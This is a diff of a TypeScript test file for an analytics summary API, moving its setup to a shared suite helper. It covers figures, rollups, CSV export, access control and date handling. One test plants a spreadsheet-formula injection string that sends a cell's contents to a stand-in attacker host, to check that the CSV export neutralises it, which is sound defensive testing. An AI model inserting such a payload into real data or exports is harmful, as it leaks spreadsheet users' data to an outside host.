@@ -1,13 +1,10 @@
 import { sql, type SQL } from 'drizzle-orm';
 import Papa from 'papaparse';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createTestApp, type TestApp } from '../../../test/test-app';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { suiteApp } from '../../../test/suite-app';
 import { adminKit } from '../../accounts/managed-accounts/admin-test-kit';
 import { refreshAnalyticsRollup } from './rollup';
 import { mrrAt as mrrAtDefinition, type SubscriptionFact } from './definitions';
-
-let t: TestApp;
-let kit: ReturnType<typeof adminKit>;
 
 const SA = 'superadmin@example.com';
 // A quiet stretch of time no demo data reaches: the fixture below is all there is in it. Dates in a range are the
@@ -18,13 +15,12 @@ const pst = (day: string, time = '00:00:00') => `${day}T${time}-08:00`;
 
 /** The first row of a query. */
 async function first<T>(query: SQL): Promise<T> {
-  const result = (await t.database.db.execute(query)) as unknown as { rows: T[] };
+  const result = (await suite.t.database.db.execute(query)) as unknown as { rows: T[] };
   return result.rows[0] as T;
 }
 
+const suite = suiteApp(adminKit);
 beforeAll(async () => {
-  t = await createTestApp();
-  kit = adminKit(t);
   const plan = await first<{ id: string; price_cents: number }>(
     sql`select id, price_cents from plans where validity = 'month' and price_cents > 0 order by price_cents limit 1`,
   );
@@ -77,13 +73,9 @@ const userIds: Record<string, string> = {};
 
 let monthly = 0;
 
-afterAll(async () => {
-  await t.close();
-});
-
 describe('GET analytics/summary', () => {
   it('answers the fixture: MRR at the end vs the start, new, churned, revenue, past due', async () => {
-    const res = await kit.as(SA, 'GET', `/api/v1/analytics/summary?${RANGE}`);
+    const res = await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary?${RANGE}`);
     expect(res.statusCode).toBe(200);
     const data = res.json().data;
     // Active on 1 March: a and b; on 1 April: a and c.
@@ -118,7 +110,7 @@ describe('GET analytics/summary', () => {
     expect(data.pastDue).toEqual({ cents: 1500, invoices: 1, accounts: 1 });
     expect(data.topSubAdmins).toEqual([expect.objectContaining({ email: 'subadmin@example.com', cents: 4500 })]);
     // A year asks for month points.
-    const year = (await kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2001-01-01&to=2002-01-01')).json().data;
+    const year = (await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2001-01-01&to=2002-01-01')).json().data;
     expect(year.series.unit).toBe('month');
     expect(year.series.points).toHaveLength(12);
     expect(data.mailVolume).toEqual([]);
@@ -126,29 +118,29 @@ describe('GET analytics/summary', () => {
 
     // The daily rollup (refreshed by the billing runner's job) answers the same as the live queries did.
     const live = data;
-    expect(await refreshAnalyticsRollup(t.database.db, new Date())).toBe(true);
-    const rolled = (await kit.as(SA, 'GET', `/api/v1/analytics/summary?${RANGE}`)).json().data;
+    expect(await refreshAnalyticsRollup(suite.t.database.db, new Date())).toBe(true);
+    const rolled = (await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary?${RANGE}`)).json().data;
     expect(rolled).toEqual(live);
     // A range that starts mid-day reads its first, partial day live and the rest from the rollup.
     const partial = (
-      await kit.as(SA, 'GET', `/api/v1/analytics/summary?from=${pst('2001-03-05', '12:00:00')}&to=2001-04-01`)
+      await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary?from=${pst('2001-03-05', '12:00:00')}&to=2001-04-01`)
     ).json().data;
     expect(partial.revenueByCategory.find((r: { category: string }) => r.category === 'fees').cents).toBe(1000);
     expect(partial.revenueByCategory.find((r: { category: string }) => r.category === 'forwards').cents).toBe(0);
     // What happens after the refresh is read live: a fee paid now shows at once in a range that reaches now.
     const daysFromNow = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
     const recent = `/api/v1/analytics/summary?from=${daysFromNow(-300)}&to=${daysFromNow(1)}`;
-    const now = (await kit.as(SA, 'GET', recent)).json().data;
+    const now = (await suite.kit.as(SA, 'GET', recent)).json().data;
     const a = await first<{ id: string }>(sql`select id from users where email = 'analytics-a@example.com'`);
     await first(sql`insert into invoices (number, user_id, category, lines, subtotal_cents, total_cents, status,
         due_at, paid_at, created_at)
       values ('AN-NOW', ${a.id}, 'late_fee', '[]'::jsonb, 700, 700, 'paid', now(), now(), now())`);
-    const later = (await kit.as(SA, 'GET', recent)).json().data;
+    const later = (await suite.kit.as(SA, 'GET', recent)).json().data;
     const fees = (s: { revenueByCategory: { category: string; cents: number }[] }) =>
       s.revenueByCategory.find((r) => r.category === 'fees')!.cents;
     expect(fees(later)).toBe(fees(now) + 700);
 
-    const jan = (await kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2001-01-01&to=2001-02-01')).json().data;
+    const jan = (await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2001-01-01&to=2001-02-01')).json().data;
     expect(jan.newSubscriptions).toBe(2);
     // d started and ended inside January: not active at the start, so not churn.
     expect(jan.churnedSubscriptions).toBe(0);
@@ -171,7 +163,7 @@ describe('GET analytics/summary', () => {
       endedAt: end ? new Date(pst(end)) : null,
     }));
     for (const range of [RANGE, 'from=2001-01-01&to=2002-01-01', 'from=2001-01-15T12:00:00Z&to=2001-02-10']) {
-      const data = (await kit.as(SA, 'GET', `/api/v1/analytics/summary?${range}`)).json().data;
+      const data = (await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary?${range}`)).json().data;
       const points = data.series.points as { start: string; mrrCents: number }[];
       const ends = points.map((_, i) => new Date(points[i + 1]?.start ?? data.to));
       expect(points.map((p) => p.mrrCents)).toEqual(ends.map((end) => mrrAtDefinition(facts, end)));
@@ -190,8 +182,8 @@ describe('GET analytics/summary', () => {
     for (let i = 0; i < 55; i++) await issue(`big-${i}`, 'USER', 100_000 + i);
     for (let i = 0; i < 12; i++) await issue(`sub-${String(i).padStart(2, '0')}`, 'SUB_ADMIN', 1_000 + (i % 6));
     // Days long past are read from the rollup: refreshed to hold them.
-    await refreshAnalyticsRollup(t.database.db, new Date());
-    const data = (await kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2002-02-01&to=2002-03-01')).json().data;
+    await refreshAnalyticsRollup(suite.t.database.db, new Date());
+    const data = (await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2002-02-01&to=2002-03-01')).json().data;
     // 1,005 down to 1,000 cents, two of each; ties by e-mail.
     expect(data.topSubAdmins.map((s: { email: string; cents: number }) => [s.email, s.cents])).toEqual(
       [5, 11, 4, 10, 3, 9, 2, 8, 1, 7].map((i) => [
@@ -202,7 +194,7 @@ describe('GET analytics/summary', () => {
   });
 
   it('exports the same figures as CSV', async () => {
-    const res = await kit.as(SA, 'GET', `/api/v1/analytics/summary.csv?${RANGE}`);
+    const res = await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary.csv?${RANGE}`);
     expect(res.statusCode).toBe(200);
     expect(res.headers['content-type']).toContain('text/csv');
     expect(res.headers['content-disposition']).toContain('analytics-2001-03-01-2001-04-01.csv');
@@ -215,15 +207,15 @@ describe('GET analytics/summary', () => {
 
   it('writes a store named like a formula as text, and negative amounts as numbers', async () => {
     const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")';
-    const stores = await t.database.db.execute(sql`select id, name from stores`);
+    const stores = await suite.t.database.db.execute(sql`select id, name from stores`);
     const before = (stores as unknown as { rows: { id: string; name: string }[] }).rows;
-    await t.database.db.execute(sql`update stores set name = ${evil}`);
+    await suite.t.database.db.execute(sql`update stores set name = ${evil}`);
     try {
-      await refreshAnalyticsRollup(t.database.db, new Date());
+      await refreshAnalyticsRollup(suite.t.database.db, new Date());
       const to = new Date(Date.now() + 86_400_000);
       const from = new Date(to.getTime() - 365 * 86_400_000);
       const range = `from=${from.toISOString().slice(0, 10)}&to=${to.toISOString().slice(0, 10)}`;
-      const res = await kit.as(SA, 'GET', `/api/v1/analytics/summary.csv?${range}`);
+      const res = await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary.csv?${range}`);
       expect(res.statusCode).toBe(200);
       const rows = Papa.parse<string[]>(res.body.trim()).data;
       const labels = rows.flatMap((r) => [r[1] ?? '']).filter((l) => l.includes('HYPERLINK'));
@@ -234,34 +226,40 @@ describe('GET analytics/summary', () => {
       expect(res.body).toMatch(/\nrevenue \(USD\),refunds,-\d+\.\d{2}\n/);
     } finally {
       for (const store of before) {
-        await t.database.db.execute(sql`update stores set name = ${store.name} where id = ${store.id}`);
+        await suite.t.database.db.execute(sql`update stores set name = ${store.name} where id = ${store.id}`);
       }
     }
   });
 
   it('is for the super admin only: 401 without a session, 403 for a sub-admin and a customer', async () => {
-    expect((await kit.as(null, 'GET', `/api/v1/analytics/summary?${RANGE}`)).statusCode).toBe(401);
-    expect((await kit.as('subadmin@example.com', 'GET', `/api/v1/analytics/summary?${RANGE}`)).statusCode).toBe(403);
-    expect((await kit.as('user@example.com', 'GET', `/api/v1/analytics/summary?${RANGE}`)).statusCode).toBe(403);
-    expect((await kit.as('user@example.com', 'GET', `/api/v1/analytics/summary.csv?${RANGE}`)).statusCode).toBe(403);
+    expect((await suite.kit.as(null, 'GET', `/api/v1/analytics/summary?${RANGE}`)).statusCode).toBe(401);
+    expect((await suite.kit.as('subadmin@example.com', 'GET', `/api/v1/analytics/summary?${RANGE}`)).statusCode).toBe(
+      403,
+    );
+    expect((await suite.kit.as('user@example.com', 'GET', `/api/v1/analytics/summary?${RANGE}`)).statusCode).toBe(403);
+    expect((await suite.kit.as('user@example.com', 'GET', `/api/v1/analytics/summary.csv?${RANGE}`)).statusCode).toBe(
+      403,
+    );
   });
 
   it('refuses a bad range with 422', async () => {
-    const backwards = await kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2001-04-01&to=2001-03-01');
+    const backwards = await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2001-04-01&to=2001-03-01');
     expect(backwards.statusCode).toBe(422);
     expect(JSON.stringify(backwards.json())).toContain('To must be after From.');
-    expect((await kit.as(SA, 'GET', '/api/v1/analytics/summary?from=nope&to=2001-03-01')).statusCode).toBe(422);
+    expect((await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=nope&to=2001-03-01')).statusCode).toBe(422);
     // A date off the calendar is refused, not rolled over into the next year.
-    const offCalendar = await kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2001-13-45&to=2002-03-01');
+    const offCalendar = await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2001-13-45&to=2002-03-01');
     expect(offCalendar.statusCode).toBe(422);
     expect(JSON.stringify(offCalendar.json())).toContain('From is not a valid date.');
-    expect((await kit.as(SA, 'GET', '/api/v1/analytics/summary?from=1990-01-01&to=2001-03-01')).statusCode).toBe(422);
+    expect((await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=1990-01-01&to=2001-03-01')).statusCode).toBe(
+      422,
+    );
   });
 });
 
 describe('GET dashboard/super-admin', () => {
   it('answers live figures for the super admin', async () => {
-    const res = await kit.as(SA, 'GET', '/api/v1/dashboard/super-admin');
+    const res = await suite.kit.as(SA, 'GET', '/api/v1/dashboard/super-admin');
     expect(res.statusCode).toBe(200);
     const data = res.json().data;
     const active = await first<{ n: number }>(
@@ -280,15 +278,15 @@ describe('GET dashboard/super-admin', () => {
   });
 
   it('is refused to a sub-admin and a customer', async () => {
-    expect((await kit.as(null, 'GET', '/api/v1/dashboard/super-admin')).statusCode).toBe(401);
-    expect((await kit.as('subadmin@example.com', 'GET', '/api/v1/dashboard/super-admin')).statusCode).toBe(403);
-    expect((await kit.as('user@example.com', 'GET', '/api/v1/dashboard/super-admin')).statusCode).toBe(403);
+    expect((await suite.kit.as(null, 'GET', '/api/v1/dashboard/super-admin')).statusCode).toBe(401);
+    expect((await suite.kit.as('subadmin@example.com', 'GET', '/api/v1/dashboard/super-admin')).statusCode).toBe(403);
+    expect((await suite.kit.as('user@example.com', 'GET', '/api/v1/dashboard/super-admin')).statusCode).toBe(403);
   });
 });
 
 describe('the rollup across its edges', () => {
   it('answers what the live queries answer, whichever part of a range the month rows, day rows and live queries read', async () => {
-    const db = t.database.db;
+    const db = suite.t.database.db;
     const boxes = (
       (await db.execute(
         sql`select distinct on (store_id) id, user_id, store_id from mailboxes order by store_id, id`,
@@ -338,7 +336,7 @@ describe('the rollup across its edges', () => {
     const answers = async () => {
       const out = [];
       for (const range of ranges) {
-        const res = await kit.as(SA, 'GET', `/api/v1/analytics/summary?${range}`);
+        const res = await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary?${range}`);
         expect(res.statusCode).toBe(200);
         out.push(res.json().data);
       }
@@ -377,7 +375,7 @@ describe('the rollup across its edges', () => {
   });
 
   it("counts days in the platform's time zone across a daylight-saving change, rolled up or live", async () => {
-    const db = t.database.db;
+    const db = suite.t.database.db;
     // Los Angeles fell back on 28 October 2001: that day lasted 25 hours (00:00 PDT, UTC-7, to 00:00 PST, UTC-8).
     const paid = async (number: string, at: string, cents: number) =>
       db.execute(sql`insert into invoices (number, user_id, category, lines, subtotal_cents, total_cents, status,
@@ -389,7 +387,7 @@ describe('the rollup across its edges', () => {
     await paid('AN-DST-3', '2001-10-29T00:30:00-08:00', 400); // the 29th
     await paid('AN-DST-4', '2001-10-27T23:59:00-07:00', 800); // the 27th: 28 October in UTC
     const range = 'from=2001-10-27&to=2001-10-30';
-    const read = async () => (await kit.as(SA, 'GET', `/api/v1/analytics/summary?${range}`)).json().data;
+    const read = async () => (await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary?${range}`)).json().data;
 
     await db.execute(sql`delete from analytics_refresh`);
     const live = await read();
@@ -408,11 +406,11 @@ describe('the rollup across its edges', () => {
 
     // A range that ends mid-day keeps that day's point, holding what was paid before the end.
     const midDay = (
-      await kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2001-10-28&to=2001-10-29T12:00:00-08:00')
+      await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2001-10-28&to=2001-10-29T12:00:00-08:00')
     ).json().data;
     expect(midDay.series.points.map((p: { revenueCents: number }) => p.revenueCents)).toEqual([300, 400]);
 
-    const csv = (await kit.as(SA, 'GET', `/api/v1/analytics/summary.csv?${range}`)).body;
+    const csv = (await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary.csv?${range}`)).body;
     expect(csv).toContain('range,time zone,America/Los_Angeles\n');
     expect(csv).toContain('day revenue (USD),2001-10-28,3.00\n');
     await refreshAnalyticsRollup(db, new Date());
